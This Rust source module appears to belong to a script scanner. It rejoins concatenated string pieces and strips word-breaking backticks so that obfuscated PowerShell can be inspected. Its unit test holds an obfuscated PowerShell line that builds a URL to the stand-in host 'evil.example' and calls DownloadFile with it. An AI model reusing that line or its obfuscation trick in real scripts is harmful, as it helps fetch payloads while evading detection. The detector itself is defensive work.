//! Text split into concatenated pieces or broken up with backticks, joined back:
//! `('ne'+'w-'+"item")` → `('new-item')`, ``"d`OWN`load"`` → `"dOWNload"`.

/// How many pieces joined or backticks dropped make a text obfuscated.
const MIN_UNSPLIT: usize = 3;

/// The text with string pieces joined (`'ne'+'w-'+"item"` → `'new-item'`) and backticks
/// that only break up a word dropped, when that was done at least [`MIN_UNSPLIT`] times.
/// Counted first without copying anything: most scripts are not obfuscated.
pub(super) fn unsplit(text: &str) -> Option<String> {
    if may_be_split(text.as_bytes()) < MIN_UNSPLIT || walk(text, None) < MIN_UNSPLIT {
        return None;
    }
    let mut out = String::with_capacity(text.len());
    walk(text, Some(&mut out));
    Some(out)
}

/// At least how many joins and dropped backticks [`walk`] finds: each join is a `+` with a
/// quote on both sides (past blanks and brackets), each dropped backtick one before a letter.
fn may_be_split(b: &[u8]) -> usize {
    let blank = |c: &&u8| matches!(c, b' ' | b'\t' | b'(' | b')');
    let quote = |c: Option<&u8>| matches!(c, Some(b'\'' | b'"'));
    let joins = memchr::memchr_iter(b'+', b)
        .filter(|at| {
            quote(b[..*at].iter().rev().find(|c| !blank(c)))
                && quote(b[at + 1..].iter().find(|c| !blank(c)))
        })
        .count();
    let backticks = memchr::memchr_iter(b'`', b)
        .filter(|at| breaks_word(b.get(at + 1)))
        .count();
    joins + backticks
}

/// Goes through `text` joining pieces and dropping backticks, writing the result to `out`
/// when it is given; returns how many pieces were joined and backticks dropped.
fn walk(text: &str, mut out: Option<&mut String>) -> usize {
    let b = text.as_bytes();
    let mut undone = 0;
    let mut i = 0;
    let mut copied = 0;
    while i < b.len() {
        // Only quotes and backticks matter.
        match memchr::memchr3(b'\'', b'"', b'`', &b[i..]) {
            Some(skip) => i += skip,
            None => break,
        }
        match b[i] {
            b'`' if breaks_word(b.get(i + 1)) => {
                if let Some(out) = out.as_deref_mut() {
                    out.push_str(&text[copied..i]);
                }
                undone += 1;
                i += 1;
                copied = i;
            }
            q @ (b'\'' | b'"') => {
                let Some((mut end, mut dropped)) = literal(b, i, q) else {
                    i += 1;
                    continue;
                };
                let mut joined = out.as_ref().map(|_| literal_text(&text[i..end], q));
                let mut pieces = 1;
                // Another piece follows when only `+`, brackets and blanks come between.
                loop {
                    let gap = b[end..]
                        .iter()
                        .take_while(|c| matches!(c, b'+' | b'(' | b')' | b' ' | b'\t'))
                        .count();
                    let next = end + gap;
                    let Some(q2 @ (b'\'' | b'"')) = b.get(next).copied() else {
                        break;
                    };
                    if !b[end..next].contains(&b'+') {
                        break;
                    }
                    let Some((piece_end, piece_dropped)) = literal(b, next, q2) else {
                        break;
                    };
                    if let Some(joined) = joined.as_mut() {
                        joined.push_str(&literal_text(&text[next..piece_end], q2));
                    }
                    pieces += 1;
                    dropped += piece_dropped;
                    end = piece_end;
                }
                if pieces > 1 || dropped > 0 {
                    if let (Some(out), Some(joined)) = (out.as_deref_mut(), joined) {
                        out.push_str(&text[copied..i]);
                        out.push(char::from(q));
                        out.push_str(&joined);
                        out.push(char::from(q));
                    }
                    undone += pieces - 1 + dropped;
                    copied = end;
                }
                i = end;
            }
            _ => i += 1,
        }
    }
    if let Some(out) = out {
        out.push_str(&text[copied..]);
    }
    undone
}

/// Whether a backtick before `next` only breaks up a word: it is before a letter or digit
/// that does not make one of PowerShell's escapes (`` `n `` and the like).
fn breaks_word(next: Option<&u8>) -> bool {
    next.is_some_and(|c| {
        c.is_ascii_alphanumeric()
            && !matches!(
                c,
                b'0' | b'a' | b'b' | b'e' | b'f' | b'n' | b'r' | b't' | b'u' | b'v'
            )
    })
}

/// Where the string literal opened by the quote `q` at `i` ends (after its closing quote),
/// and how many word-breaking backticks it holds (in double quotes). `None` when it does
/// not close on its line.
fn literal(b: &[u8], i: usize, q: u8) -> Option<(usize, usize)> {
    let mut dropped = 0;
    let mut j = i + 1;
    while j < b.len() {
        j += memchr::memchr3(q, b'`', b'\n', &b[j..])?;
        match b[j] {
            c if c == q && b.get(j + 1) == Some(&q) => j += 2,
            c if c == q => return Some((j + 1, dropped)),
            b'`' if q == b'"' => {
                dropped += usize::from(breaks_word(b.get(j + 1)));
                j += 2;
            }
            b'\n' | b'\r' => return None,
            _ => j += 1,
        }
    }
    None
}

/// The text of the literal `quoted` (quotes included), with doubled quotes undone and, in
/// double quotes, word-breaking backticks dropped.
fn literal_text(quoted: &str, q: u8) -> String {
    let inner = &quoted[1..quoted.len() - 1];
    let mut s = String::with_capacity(inner.len());
    let b = inner.as_bytes();
    let mut copied = 0;
    let mut j = 0;
    while j < b.len() {
        match b[j] {
            c if c == q => {
                // The first of a doubled quote: keep one.
                s.push_str(&inner[copied..=j]);
                j += 2;
                copied = j;
            }
            b'`' if q == b'"' => {
                if breaks_word(b.get(j + 1)) {
                    s.push_str(&inner[copied..j]);
                    copied = j + 1;
                }
                j += 2;
            }
            _ => j += 1,
        }
    }
    s.push_str(&inner[copied.min(inner.len())..]);
    s
}

#[cfg(test)]
mod tests {
    use super::super::hidden_strings;

    #[test]
    fn split_strings_are_joined_and_word_breaking_backticks_dropped() {
        let text = r#"$u=(('h'+'ttp')+(':'+'//')+('ev'+'il.example/a'));$w.("d`OWN`load`FIlE")($u, "a`tb")"#;
        assert_eq!(
            hidden_strings(text),
            vec![r#"$u=(('http://evil.example/a'));$w.("dOWNloadFIlE")($u, "a`tb")"#]
        );
        assert_eq!(
            hidden_strings("'a' + 'b'"),
            Vec::<String>::new(),
            "one join is no obfuscation"
        );
    }
}
